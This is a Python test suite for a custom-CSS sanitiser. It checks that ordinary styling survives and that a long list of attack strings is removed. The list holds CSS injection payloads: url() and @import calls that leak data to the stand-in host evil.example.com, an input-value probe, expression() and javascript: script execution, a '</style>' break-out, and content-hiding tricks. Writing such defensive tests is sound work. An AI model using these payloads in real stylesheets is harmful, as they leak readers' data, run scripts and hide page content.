"""Custom CSS: what is worn as meant, and a corpus of what people have tried elsewhere."""

import re

import pytest
import tinycss2
from hypothesis import given
from hypothesis import strategies as st

from publishing.core.css_rules import PROPERTIES
from publishing.core.custom_css import LARGEST, sanitised
from publishing.core.sheets import sheet_of

PIXEL = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9"
    "awAAAABJRU5ErkJggg=="
)

WORN = {
    ".masthead { border-bottom: 3px solid #0f766e }": "border-bottom: 3px solid #0f766e",
    ".page > main { gap: 2rem; }": ".page > main { gap: 2rem; }",
    "@media (width >= 48rem) { .page { max-width: 60rem } }": "max-width: 60rem",
    "@supports (text-wrap: pretty) { p { text-wrap: pretty } }": "text-wrap: pretty",
    "@container (inline-size > 30rem) { .row { padding: 1rem } }": "padding: 1rem",
    ".row { &:hover { background: oklch(97% 0.02 200) } }": "&:hover { background: oklch(97%",
    '.masthead::before { content: "Northmail" / "" }': 'content: "Northmail" / ""',
    f".masthead {{ background: url({PIXEL}) no-repeat }}": f"url({PIXEL}) no-repeat",
    f".masthead {{ background-image: url('{PIXEL}') }}": f'url("{PIXEL}")',
    "a { color: light-dark(#145, color-mix(in oklab, #9cf 80%, white)) }": "color-mix(in oklab",
    "h1 { font-size: clamp(1.5rem, 1.2rem, 2.5rem); letter-spacing: -0.02em }": "letter-spacing: -0.02em",
    'a[href^="https://docs"]:not(.button) { font-weight: 600 }': "font-weight: 600",
    "p { margin-inline: auto; margin-top: max(1rem, 2px) }": "margin-top: max(1rem, 2px)",
    ".button { box-shadow: 0 2px 6px rgb(0 0 0 / 20%) }": "box-shadow: 0 2px 6px",
    "a { color: var(--accent) !important }": "color: var(--accent) !important;",
}  # fmt: skip

# Each is left out, with its reason; nothing of it is in what readers get.
ATTACKS = [
    # Something is loaded, and with it told to somebody: who reads, and what is typed.
    "@import url(https://evil.example.com/x.css);",
    '@import "https://evil.example.com/x.css";',
    "@\\69mport 'https://evil.example.com/x.css';",
    "a { background: url(https://evil.example.com/?leak) }",
    "a { background: url('//evil.example.com/x') }",
    'a { background: URL( "https://evil.example.com/x" ) }',
    "a { background: u\\72 l(https://evil.example.com/x) }",
    "a { background: \\75\\72\\6c('https://evil.example.com/x') }",
    "a { background: image-set('https://evil.example.com/x' 1x) }",
    "a { background: -webkit-image-set(url(https://evil.example.com/x) 1x) }",
    "a { background: cross-fade(url(https://evil.example.com/x), red) }",
    "a { background: image('https://evil.example.com/x') }",
    "a { background: src('https://evil.example.com/x') }",
    "a { background: paint(evil) }",
    "a { background: element(#secret) }",
    "a { cursor: url(https://evil.example.com/c.cur), auto }",
    "a { list-style-image: url(https://evil.example.com/x) }",
    "a { border-image: url(https://evil.example.com/x) 1 }",
    "a { mask-image: url(https://evil.example.com/x) }",
    "a { filter: url(https://evil.example.com/f.svg#x) }",
    "@font-face { font-family: x; src: url(https://evil.example.com/f.woff) }",
    "@namespace svg url(https://evil.example.com/);",
    "@charset 'utf-7';",
    "input[value^=a] { background: url(https://evil.example.com/?a) }",
    "a::after { content: attr(href) url(https://evil.example.com/) }",
    "a { background-image: url(attr(data-x)) }",
    "a { --x: url(https://evil.example.com/x); }",
    "a { color: attr(data-x type(<color>)) }",
    "a { color: env(secret) }",
    # Something runs.
    "a { width: expression(alert(1)) }",
    "a { width: exp/**/ression(alert(1)) }",
    "a { behavior: url(x.htc) }",
    "a { \\62 ehavior: url(x.htc) }",
    "a { -moz-binding: url(x.xml#x) }",
    "a { background: url(javascript:alert(1)) }",
    "a { background: url('java\\\nscript:alert(1)') }",
    "a { background: url(data:text/html;base64,PHNjcmlwdD4=) }",
    "a { background: url('data:image/svg+xml,<svg onload=alert(1)>') }",
    "a { background: url(data:image/svg+xml;base64,PHN2Zz4=) }",
    "a { background: url(\"data:image/png;base64,AAAA') no-repeat url(https://evil.example.com/x\") }",
    # Something leaves its fence.
    "} body { display: none",
    "}}}}}} .state { display: none }",
    "a { color: red } } } @layer reset { .state { display: none } }",
    "a { } </style><script>alert(1)</script>",
    "a[title='</style>'] { float: left }",
    "@media (a</style>) { a { color: red } }",
    "@layer reset { .state { display: none } }",
    "@layer base;",
    "@scope (.state) { :scope { color: red } }",
    "@property --ink { syntax: '<color>'; inherits: true; initial-value: red }",
    "@page { size: 1px }",
    "@keyframes gone { to { opacity: 0 } }",
    "@view-transition { navigation: auto }",
    "@counter-style x { symbols: url(https://evil.example.com/x) }",
    # Something is hidden, covered, moved away, or made unreadable.
    ".parts { display: none }",
    ".parts { display: var(--none, none) }",
    ".parts { display: contents }",
    ".parts { visibility: hidden }",
    ".parts { opacity: 0 }",
    ".parts { clip-path: inset(50%) }",
    ".parts { mask: linear-gradient(transparent, transparent) }",
    ".parts { filter: opacity(0) }",
    ".parts { transform: translateX(-200vw) }",
    ".parts { translate: -200vw }",
    ".parts { scale: 0 }",
    ".parts { position: fixed; inset: 0; z-index: 9999 }",
    ".parts { float: left }",
    ".parts { height: 0; overflow: hidden }",
    ".parts { content-visibility: hidden }",
    ".parts { contain: strict }",
    ".parts { text-indent: -999em }",
    ".parts { margin-left: -9999px }",
    ".parts { margin: 0 0 0 calc(0px - 9999px) }",
    ".parts { margin-left: max(-9999px, -99em) }",
    ".parts { margin-left: max(1px * -9999, 0px - 9999px) }",
    ".parts { margin-left: var(--space-1, -9999px) }",
    ".parts { font-size: 0 }",
    ".parts { font-size: 1px }",
    ".parts { font-size: 0.1em }",
    ".parts { font-size: clamp(0rem, 0vw, 1px) }",
    ".parts { font-size: calc(1rem - 1rem) }",
    ".parts { font: 0/0 a }",
    ".parts { color: transparent }",
    ".parts { color: #0000 }",
    ".parts { color: #ffffff00 }",
    ".parts { color: rgb(0 0 0 / 0) }",
    ".parts { color: rgb(0, 0, 0, 0) }",
    ".parts { color: light-dark(#000, hsla(0, 0%, 0%, 0)) }",
    ".parts { background-clip: text }",
    ".parts { box-shadow: 0 0 0 9999px white }",
    ".parts { box-shadow: 0 0 0 calc(48px * 99) white }",
    ".parts { box-shadow: 0 0 0 100vmax white }",
    ".parts { outline: 9999px solid white }",
    ".parts { text-decoration: line-through 1em }",
    ".parts { order: -1 }",
    ".parts { direction: rtl; unicode-bidi: bidi-override }",
    ".parts { writing-mode: vertical-rl }",
    ".parts { pointer-events: none }",
    ".parts { animation: gone 1s forwards }",
    ".parts { content: url(data:image/png;base64,AAAA) }",
    ".parts { content: linear-gradient(red, red) }",
    ".parts { all: unset }",
    ".parts { zoom: 0 }",
    "* { cursor: none }",
    ":root { --ink: white; --paper: white }",
    ":root { color-scheme: only light }",
]  # fmt: skip


@pytest.mark.parametrize(("typed", "worn"), WORN.items())
def test_what_belongs_to_a_look_is_worn_as_it_was_meant(typed: str, worn: str) -> None:
    sheet = sanitised(typed)
    assert sheet.dropped == ()
    assert worn in sheet.css


@pytest.mark.parametrize("typed", ATTACKS)
def test_an_attack_is_left_out_and_said(typed: str) -> None:
    sheet = sanitised(f"/* ours */\n{typed}\n.row {{ padding: 1rem }}")
    assert sheet.dropped
    assert all(each.line >= 2 and each.why for each in sheet.dropped)
    harmless(sheet.css)


def harmless(css: str) -> None:
    """Nothing in it leads out, runs, hides, or ends its block early."""
    low = css.lower()
    assert not re.search(r"https?:|//|javascript|svg|</|<!|@import|@layer|@scope|expression", low)
    assert not re.search(r"none|hidden|opacity|fixed|transparent|9999", low)
    whole = sheet_of({}, {}, css)
    (layer,) = tinycss2.parse_stylesheet(whole, skip_whitespace=True) if css else [None]
    assert layer is None or layer.lower_at_keyword == "layer"


def test_what_is_left_out_is_named_by_its_line() -> None:
    sheet = sanitised(
        ".a { color: red }\n.b {\n  position: fixed;\n  color: blue;\n}\n@import 'x';"
    )
    assert [str(each) for each in sheet.dropped] == [
        "Line 3: position: this property is not one that custom CSS may set.",
        "Line 6: @import: only @media, @supports and @container may stand here.",
    ]
    assert sheet.css == ".a { color: red; }\n.b { color: blue; }"


def test_a_comment_ends_nothing_and_hides_nothing() -> None:
    assert sanitised("/* </style> */ a { color: red /* } */ }").css == "a { color: red; }"


@pytest.mark.parametrize(
    "typed", ["a { color: red", "a { content: 'x", "@media print { a { color: red"]
)
def test_what_was_left_open_is_closed(typed: str) -> None:
    css = sanitised(typed).css
    assert css.count("{") == css.count("}")


@pytest.mark.parametrize(
    "deep", ["(" * 15000, "{" * 15000, "[" * 15000, "a{" * 10000, ":is(" * 8000]
)
def test_depth_is_no_way_to_stall_or_break_it(deep: str) -> None:
    assert sanitised(f"a {{ color: {deep} }}").css == ""
    assert sanitised(deep).dropped


def test_a_text_that_is_too_long_is_left_out_whole() -> None:
    (dropped,) = sanitised("a { color: red }" * (LARGEST // 16 + 1)).dropped
    assert f"{LARGEST:,}" in dropped.why


def test_a_text_may_grow_by_our_own_spelling() -> None:
    sheet = sanitised("a{color:red}" * (LARGEST // 12))
    assert sheet.dropped == ()
    assert len(sheet.css) > LARGEST


def test_a_large_picture_in_it_is_left_out() -> None:
    sheet = sanitised(f"a {{ background: url(data:image/png;base64,{'A' * 9000}) }}")
    assert "8,192" in sheet.dropped[0].why


snippets = st.sampled_from(
    [*ATTACKS, *WORN, "{", "}", "(", ")", "[", "]", ";", ":", '"', "'", "\\", "/*", "*/", "<", "<!--",
     "-->", "@", "url(", "!important", "\n", "\x00", "\ud800", "\\0", "\\9 ", ",", "&", "a", "--x"]
)  # fmt: skip


@given(st.lists(snippets | st.text(max_size=8), max_size=12).map("".join))
def test_whatever_is_typed_comes_out_whole_closed_and_the_same_when_read_again(typed: str) -> None:
    css = sanitised(typed).css
    again = sanitised(css)
    assert (again.css, again.dropped) == (css, ())
    for node in tinycss2.parse_stylesheet(css, skip_whitespace=True, skip_comments=True):
        assert node.type in {"qualified-rule", "at-rule"}
    assert set(re.findall(r"(?<=[{;] )([a-z-]+)(?=: )", css)) <= PROPERTIES
    assert not re.search(r"</|<!|@import|@layer|url\([^)]*(https?:|//)", css)
